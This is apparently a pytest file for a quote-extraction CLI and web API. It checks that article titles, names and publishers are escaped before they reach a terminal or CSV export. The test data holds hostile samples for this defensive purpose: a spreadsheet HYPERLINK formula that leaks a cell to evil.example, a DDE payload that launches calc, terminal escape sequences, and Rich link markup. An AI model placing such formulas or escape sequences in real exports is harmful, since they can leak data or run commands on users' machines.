"""Issue 21, items 5 and 6: untrusted article text reaching a terminal or a spreadsheet.

Titles, names and quotes are data: rich must print them as written (no markup, no
links), control characters must not reach the terminal, and a CSV cell must not be a
spreadsheet formula unless the user asks for raw cells."""

from __future__ import annotations

import csv
import io
import json

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from saywho.cli import app
from saywho.output import for_rich, printable, spreadsheet_safe
from saywho.store import Store
from saywho.web import create_app
from store.store_builders import Quote, add, build_article
from web.web_corpus import TOKEN

runner = CliRunner()

BRACKETED_TITLE = "Readers react [/r/politics] to the vote"
LINK_TITLE = "[link=https://evil.example/]Click here[/link] for the results"
#: OSC 0 sets the window title; CSI 31m turns the text red; U+009B is a one-byte CSI.
ESCAPE_TITLE = "\x1b]0;pwned\x07Council \x1b[31mmeets\x9b2J"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1, "details")'


def run(*args: str):
    return runner.invoke(app, list(args))


def jsonl_input(tmp_path, titles: list[str]) -> str:
    path = tmp_path / "articles.jsonl"
    lines = [json.dumps({"id": f"a{n}", "title": title, "text": f'"We will vote on item {n}," Mayor Jane Ortiz said.'})
             for n, title in enumerate(titles)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


# --- 5. the table for people ---------------------------------------------------------


def test_a_title_with_brackets_is_printed_as_written_and_later_inputs_still_come(tmp_path):
    source = jsonl_input(tmp_path, [BRACKETED_TITLE, "The next article"])
    result = run("extract", source, "--format", "table")
    assert result.exit_code == 0, result.output
    assert "MarkupError" not in result.output
    assert BRACKETED_TITLE in result.stdout and "The next article" in result.stdout


def test_a_title_with_link_markup_stays_text(tmp_path):
    result = run("extract", jsonl_input(tmp_path, [LINK_TITLE]), "--format", "table")
    assert result.exit_code == 0, result.output
    assert "[link=https://evil.example/]Click here[/link]" in result.stdout


def test_escape_sequences_in_titles_never_reach_the_terminal(tmp_path):
    result = run("extract", jsonl_input(tmp_path, [ESCAPE_TITLE]), "--format", "table")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x9b" not in result.stdout and "\x07" not in result.stdout
    assert "]0;pwnedCouncil [31mmeets2J" in result.stdout


def test_search_tables_escape_every_cell(tmp_path):
    db = str(tmp_path / "hostile.db")
    with Store.open(db) as store:
        add(store, build_article([Quote("Dana [bold]Reyes[/bold]", f"{BRACKETED_TITLE} \x1b]0;pwned\x07")],
                                 publisher="[link=https://evil.example/]Evil[/link]"))
    result = runner.invoke(app, ["search", "--db", db, "--format", "table"], env={"COLUMNS": "400"})  # no folding
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout
    for shown in (BRACKETED_TITLE, "Dana [bold]Reyes[/bold]", "[link=https://evil.example/]Evil[/link]"):
        assert shown in result.stdout


def test_error_lines_strip_control_characters_from_input_names(tmp_path):
    name = tmp_path / "evil\x1b]0;pwned\x07.txt"
    result = run("extract", str(name), "--format", "jsonl")
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "evil]0;pwned.txt" in result.stderr


def test_ingest_error_lines_strip_control_characters_too(tmp_path):
    # An OSC sequence (set the window title): click strips CSI colour codes off a non-terminal, not these.
    name = tmp_path / "evil\x1b]0;pwned\x07.txt"
    name.write_bytes(b"\x00\x01binary")
    result = run("ingest", str(name), "--db", str(tmp_path / "c.db"))
    assert result.exit_code == 1
    assert "\x1b" not in result.stderr and "\x07" not in result.stderr and "evil]0;pwned.txt" in result.stderr


@pytest.mark.parametrize("text, shown", [
    ("tab\tand\nnewline stay", "tab\tand\nnewline stay"),
    ("bell\x07 nul\x00 del\x7f csi\x9b", "bell nul del csi"),
])
def test_printable_keeps_tabs_and_newlines_only(text, shown):
    assert printable(text) == shown


def test_for_rich_escapes_markup_that_rich_would_read():
    from rich.text import Text

    for text in (BRACKETED_TITLE, LINK_TITLE, "[bold]x[/]", "\\[bold]y"):
        assert Text.from_markup(for_rich(text) + " [dim](input)[/dim]").plain == text + " (input)"


# --- 6. spreadsheets ----------------------------------------------------------------


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_cells_that_start_like_formulas_get_a_leading_quote(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Jane Ortiz", "", "3 = 3", 0.5, 12, None])
def test_other_cells_are_unchanged(cell):
    assert spreadsheet_safe(cell) == cell


def test_extract_csv_neutralises_formulas_unless_raw(tmp_path):
    source = jsonl_input(tmp_path, [FORMULA])
    rows = list(csv.DictReader(io.StringIO(run("extract", source, "--format", "csv").stdout)))
    assert rows and all(row["title"] == "'" + FORMULA for row in rows)
    raw = list(csv.DictReader(io.StringIO(run("extract", source, "--format", "csv", "--raw-csv").stdout)))
    assert raw and all(row["title"] == FORMULA for row in raw)


@pytest.fixture
def formula_corpus(tmp_path) -> str:
    db = str(tmp_path / "formula.db")
    with Store.open(db) as store:
        add(store, build_article([Quote(FORMULA, "We will win")], title="@SUM(A1:A9)", publisher="-cmd|' /C calc'!A0"))
    return db


def test_search_csv_neutralises_formulas_unless_raw(formula_corpus):
    result = run("search", "--db", formula_corpus, "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(result.stdout))
    assert (row["speaker"], row["title"], row["publisher"]) == ("'" + FORMULA, "'@SUM(A1:A9)", "'-cmd|' /C calc'!A0")
    (raw,) = csv.DictReader(io.StringIO(run("search", "--db", formula_corpus, "--format", "csv", "--raw-csv").stdout))
    assert raw["speaker"] == FORMULA


def test_api_search_csv_neutralises_formulas_unless_raw(formula_corpus):
    with TestClient(create_app(formula_corpus, token=TOKEN)) as client:
        (row,) = csv.DictReader(io.StringIO(client.get("/api/search.csv").text))
        (raw,) = csv.DictReader(io.StringIO(client.get("/api/search.csv?raw=true").text))
    assert row["speaker"] == "'" + FORMULA and row["title"] == "'@SUM(A1:A9)"
    assert raw["speaker"] == FORMULA
